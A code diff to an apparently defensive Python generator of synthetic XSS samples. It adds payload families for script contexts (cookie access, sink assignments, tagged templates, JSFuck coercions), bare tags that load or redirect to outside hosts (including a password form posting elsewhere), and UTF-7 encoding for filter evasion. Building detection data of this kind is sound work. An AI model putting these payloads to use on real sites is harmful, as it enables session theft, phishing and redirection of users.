@@ -138,6 +138,59 @@ def _fragment(rng: random.Random) -> str:
     return pick(rng, (f"document.cookie", f"document.write({_js(rng)})", f"window.location={chr(39)}//{rand_host(rng)}{chr(39)}", f"innerHTML={chr(39)}<img src=x onerror={_js(rng)}>{chr(39)}", f"eval(name)", f"top.location.hash"))
 
 
+def _dom_js(rng: random.Random) -> str:
+    """Script without a tag, for a value that lands in a script context or an eval: property
+    access by bracket strings, assignments to sinks, tagged templates, JSFuck-style coercions."""
+    obj = pick(rng, ("window", "top", "self", "parent", "globalThis", "frames", "this"))
+    q = pick(rng, ('"', "'"))
+    roll = rng.random()
+    if roll < 0.3:
+        prop = pick(rng, ("alert", "confirm", "prompt", "eval", "print"))
+        arg = pick(rng, (f"{obj}[{q}document{q}][{q}cookie{q}]", "document.domain", "1", f"{q}xss{q}", "origin"))
+        split = pick(rng, (f"{q}{prop}{q}", f"{q}{prop[:2]}{q}+{q}{prop[2:]}{q}", f"atob({q}YWxlcnQ={q})"))
+        return f"{obj}[{split}]({arg})"
+    if roll < 0.5:
+        sink = pick(rng, ("document.cookie", "location", "location.href", "document.location", "window.location",
+                          "document.body.innerHTML", "document.domain", "location.hash"))
+        value = pick(rng, (f"{q}//{rand_host(rng)}/{q}", f"{q}{rand_ident(rng)}={rand_ident(rng)}{q}", f"{q}javascript:alert(1){q}",
+                           f"{q}<img src=x onerror=alert(1)>{q}", "name"))
+        return pick(rng, (f"{sink}={value}", f"{sink}", f"({sink})", f"...({sink})...", f"{sink}.toString()"))
+    if roll < 0.65:
+        fn = pick(rng, ("alert", "confirm", "prompt", "eval", "Function"))
+        return pick(rng, (f"[].sort.call`${{{fn}}}1337`", f"{fn}`1`", f"Reflect.apply.call`${{{fn}}}`",
+                          f"[1].find({fn})", f"[].map.call`${{{fn}}}`", f"Array.from`1`.map({fn})"))
+    if roll < 0.8:
+        return pick(rng, ("(![]+[])[+!+[]]", "+!![]", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
+                          "(!![]+[])[+[]]", "[]+{}", "([]+[])[(![]+[])[+[]]]", "+[![]]"))
+    target = pick(rng, ("document.querySelector", "document.getElementById", "document.getElementsByTagName"))
+    return f"{target}({q}{pick(rng, ('p', 'body', 'x', rand_ident(rng)))}{q}).{pick(rng, ('textContent', 'innerHTML', 'outerHTML'))}={q}{pick(rng, ('XSS', '<b>x</b>', '<img src=x onerror=alert(1)>'))}{q}"
+
+
+def _bare_tag(rng: random.Random) -> str:
+    """Elements that load or redirect without any event handler or script."""
+    host = rand_host(rng)
+    q = pick(rng, ('"', "'", ""))
+    return case_variant(rng, pick(rng, (
+        f"<embed src={q}{pick(rng, ('//' + host + '/', ''))}{rand_ident(rng)}.swf{q}>",
+        f"<object data={q}//{host}/{rand_ident(rng)}.{pick(rng, ('swf', 'svg', 'html'))}{q}>",
+        f"<object type=text/html data={q}{pick(rng, ('javascript:alert(1)', '//' + host))}{q}>",
+        f"<meta http-equiv={q}refresh{q} content={q}0;{pick(rng, ('url=', ''))}//{host}/{q}>",
+        f"<meta http-equiv={q}refresh{q}",
+        f"<meta charset={q}{pick(rng, ('UTF-7', 'x-imap4-modified-utf7', 'UTF-8'))}{q}>",
+        f"<base href={q}//{host}/{q}>",
+        f"<link rel=import href={q}//{host}/x.html{q}>",
+        f"<iframe src={q}//{host}/{q}></iframe>",
+        f"<applet code={q}{rand_ident(rng)}.class{q} codebase={q}//{host}/{q}>",
+        f"<form action={q}//{host}/login{q}><input name=password type=password>",
+        f"<svg><use href={q}//{host}/x.svg#a{q}/>",
+    )))
+
+
+def _utf7(text: str) -> str:
+    """``<`` and ``>`` in UTF-7, for a page that a meta charset or sniffing decodes as such."""
+    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
+
+
 _FAMILIES: tuple[tuple[str, Family, float], ...] = (
     ("event_tag", _event_tag, 4.0),
     ("fragment", _fragment, 1.0),
@@ -146,6 +199,8 @@ _FAMILIES: tuple[tuple[str, Family, float], ...] = (
     ("breakout", _breakout, 2.0),
     ("polyglot", _polyglot, 0.6),
     ("styled", _styled, 1.0),
+    ("dom_js", _dom_js, 1.0),
+    ("bare_tag", _bare_tag, 0.8),
 )
 
 
@@ -156,6 +211,8 @@ def generate(rng: random.Random, n: int) -> list[Sample]:
         text = fn(rng)
         if chance(rng, 0.08):
             text = random_case(rng, text)
+        if chance(rng, 0.03) and "<" in text:
+            text = _utf7(text)
         if chance(rng, 0.2):
             # embedded in surrounding text, as in a comment field
             text = f"{pick(rng, ('hello ', 'nice post ', 'test', rand_ident(rng) + ' ', ''))}{text}{pick(rng, ('', ' thanks', ' ' + rand_ident(rng)))}"
